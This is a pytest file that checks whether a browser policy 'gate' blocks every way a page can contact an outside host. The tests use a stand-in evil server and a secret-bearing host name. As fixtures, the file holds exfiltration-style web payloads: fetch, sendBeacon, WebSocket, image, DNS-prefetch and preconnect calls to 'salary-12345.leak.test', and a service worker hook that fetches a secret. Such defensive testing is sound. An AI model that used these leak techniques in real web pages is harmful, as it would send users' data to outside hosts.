"""Of all ways out of a page none leads outside the policy, and inside it they stay open."""

import json
from collections.abc import Sequence
from pathlib import Path
from typing import NamedTuple
from urllib.parse import unquote

import pytest
import pytest_asyncio

from tests.browser.policy.evil_lab import GOOD_ORIGIN, EvilLab, lab
from tests.browser.policy.way import HELPERS, OFF, QUIET, Way
from tests.browser.policy.way_scripts import SECRET_FETCH
from tests.browser.policy.ways import BY_NAME_ONLY, WAYS
from tests.support.site import Asked, Page, Reply

pytestmark = [pytest.mark.chromium, pytest.mark.asyncio(loop_scope="module")]

DONE = "<script>setTimeout(() => fetch('/done?TOKEN').catch(() => 0), 400)</script>"
_IN_ONE_PAGE = 24


def token(way: Way) -> str:
    """Return the mark of *way* in addresses and host names."""
    return f"w{WAYS.index(way)}x"


def spelled(text: str, way: Way, host: str) -> str:
    """Return *text* with its addresses at *host*, all bearing the mark of *way*."""
    mark = token(way)
    named = f"{mark}.{host}"
    for place, address in (
        ("USER", f"http://me:pw@{host}/{mark}"),
        ("TLSHOST", named),
        ("TLS", f"https://{named}"),
        ("WS", f"ws://{host}/{mark}"),
        ("NAMED", named),
        ("TOKEN", mark),
        ("ADDRESS", f"http://{host}/{mark}"),
    ):
        text = text.replace(place, address)
    return text


def page_of(way: Way, host: str) -> Page:
    """Return the page that takes *way* to *host*."""
    body = spelled(f"<!doctype html><body>{HELPERS}{way.body}{DONE}", way, host)
    headers = {name: spelled(value, way, host) for name, value in way.headers}
    return lambda _: Reply(body, way.status, headers=headers)


def _script(code: str) -> Page:
    def answer(asked: Asked) -> Reply:
        source = code.replace("ADDRESS", unquote(asked.query))
        return Reply(source, content_type="text/javascript")

    return answer


def _away(asked: Asked) -> Reply:
    return Reply(status=302, headers={"Location": unquote(asked.query)})


def lay_out(site: EvilLab, host: str, ways: Sequence[Way] = WAYS) -> dict[str, list[Way]]:
    """Serve *ways* to *host* from the good site; return which tab takes which of them."""
    pages = site.good.pages
    pages.clear()
    pages |= {"/": "start", "/empty": "empty", "/done": "done"}
    pages["/asks"] = _script(f"self.oninstall = e => e.waitUntil({SECRET_FETCH})")
    pages["/imports"] = _script("importScripts('ADDRESS')")
    pages["/away"] = _away
    for way in ways:
        pages[f"/{host}/{token(way)}"] = page_of(way, host)
    tabs = {f"{GOOD_ORIGIN}/{host}/{token(way)}": [way] for way in ways if way.top}
    framed = [way for way in ways if not way.top]
    groups = [framed[at : at + _IN_ONE_PAGE] for at in range(0, len(framed), _IN_ONE_PAGE)]
    for number, group in enumerate(groups):
        frames = "".join(f"<iframe src=/{host}/{token(way)}></iframe>" for way in group)
        pages[f"/{host}/group{number}"] = f"<!doctype html>{frames}"
        tabs[f"{GOOD_ORIGIN}/{host}/group{number}"] = group
    return tabs


def is_done(site: EvilLab, way: Way) -> bool:
    """Tell whether the page of *way* had its time."""
    return any(hit.path == "/done" and hit.query == token(way) for hit in tuple(site.good.hits))


def arrived_in(site: EvilLab, way: Way) -> bool:
    """Tell whether the good site was asked what *way* asks for."""
    return any(hit.path.startswith(f"/{token(way)}") for hit in tuple(site.good.hits))


def stopped(site: EvilLab, way: Way) -> bool:
    """Tell whether the gate stopped what *way* asks for."""
    return any(token(way) in request.url for request in tuple(site.blocked))


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def ungated(tmp_path_factory: pytest.TempPathFactory) -> frozenset[str]:
    """The ways by which a browser without a gate reached the evil server."""
    async with lab(tmp_path_factory.mktemp("open"), "open") as site:
        tabs = lay_out(site, "evil.test")

        def over(url: str) -> bool:
            return all(site.evil.heard(token(way)) or way.why_never for way in tabs[url])

        await site.visit(tabs, over)
        return frozenset(way.name for way in WAYS if site.evil.heard(token(way)))


class Gated(NamedTuple):
    """What became of all ways behind the gate: to the evil host, then to the good one."""

    arrived: tuple[bytes, ...]
    stopped: frozenset[str]
    late: tuple[str, ...]
    inside: frozenset[str]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def gated(tmp_path_factory: pytest.TempPathFactory) -> Gated:
    """Take all ways behind a gate for which every name is at the evil server."""
    async with lab(tmp_path_factory.mktemp("gated"), "gated") as site:
        tabs = lay_out(site, "evil.test", [way for way in WAYS if way.name not in BY_NAME_ONLY])
        late = await site.visit(tabs, lambda url: _had_their_time(site, tabs[url]))
        stopped_ways = frozenset(way.name for way in WAYS if stopped(site, way))
        arrived = tuple(site.evil.arrived)
        site.good.hits.clear()
        site.blocked.clear()
        open_ways = [way for way in WAYS if not (way.kept_in or way.why_never)]
        tabs = lay_out(site, "good.test", open_ways)
        await site.visit(tabs, lambda url: all(arrived_in(site, way) for way in tabs[url]))
        inside = frozenset(way.name for way in open_ways if arrived_in(site, way))
        return Gated(arrived, stopped_ways, tuple(late), inside)


# What no gate can be expected to stop: its page says when it had its time.
UNSEEN = BY_NAME_ONLY | {way.name for way in WAYS if way.kept_in in (OFF, QUIET) or way.why_never}


def _had_their_time(site: EvilLab, ways: list[Way]) -> bool:
    # A way that the gate sees is waited for: a worker starts when it likes, after its page's word.
    return all(stopped(site, way) or (way.name in UNSEEN and is_done(site, way)) for way in ways)


@pytest.mark.parametrize("way", WAYS, ids=[way.name for way in WAYS])
async def test_without_a_gate_the_way_is_open(ungated: frozenset[str], way: Way) -> None:
    assert (way.name in ungated) is not bool(way.why_never)


async def test_behind_the_gate_no_way_reaches_the_evil_server(gated: Gated) -> None:
    assert gated.late == ()
    assert gated.arrived == ()


async def test_it_is_the_gate_that_stops_what_it_can_see(
    gated: Gated, ungated: frozenset[str]
) -> None:
    let_go = ungated - gated.stopped - BY_NAME_ONLY
    off = {way.name for way in WAYS if way.kept_in in (OFF, QUIET)}
    assert let_go == off & ungated


@pytest.mark.parametrize("way", WAYS, ids=[way.name for way in WAYS])
async def test_inside_the_policy_the_way_is_open(gated: Gated, way: Way) -> None:
    assert way.name in gated.inside or way.kept_in or way.why_never


async def test_the_product_as_it_starts_reaches_no_other_host_even_past_the_gate(
    tmp_path: Path,
) -> None:
    unseen = [way for way in WAYS if way.name in BY_NAME_ONLY or way.kept_in in (OFF, QUIET)]
    async with lab(tmp_path, "shipped") as site:
        tabs = lay_out(site, "evil.test", [*unseen, *(way for way in WAYS if way.why_never)])
        assert await site.visit(tabs, lambda url: _had_their_time(site, tabs[url])) == []
        assert site.evil.arrived == []


SECRET = "salary-12345.leak.test"
LOOKS_UP = f"""<link rel=dns-prefetch href=//{SECRET}><link rel=preconnect href=https://{SECRET}>
<img src=http://{SECRET}/><script>fetch('https://{SECRET}/').catch(() => 0);
navigator.sendBeacon('http://{SECRET}/x', 'x'); new WebSocket('wss://{SECRET}/');
setTimeout(() => fetch('/done'), 700)</script>"""


@pytest.mark.parametrize(("kind", "looked_up"), [("named", True), ("shipped", False)])
async def test_a_host_name_that_bears_a_secret_is_not_even_looked_up(
    tmp_path: Path, kind: str, looked_up: bool
) -> None:
    log = tmp_path / "net.json"
    async with lab(tmp_path, kind, f"--log-net-log={log}") as site:
        site.good.pages |= {"/": LOOKS_UP, "/done": "done"}
        over = lambda _: "/done" in site.good.hit_paths()  # noqa: E731 - one place
        assert await site.visit([f"{GOOD_ORIGIN}/"], over) == []
    assert (SECRET in names_looked_up(log.read_text())) is looked_up


def names_looked_up(net_log: str) -> str:
    """Return what the browser's own log of its network says about its lookups."""
    told = json.loads(net_log)
    kinds = {number: name for name, number in told["constants"]["logEventTypes"].items()}
    lookups = [e for e in told["events"] if kinds[e["type"]].startswith("HOST_RESOLVER_MANAGER")]
    return json.dumps(lookups)
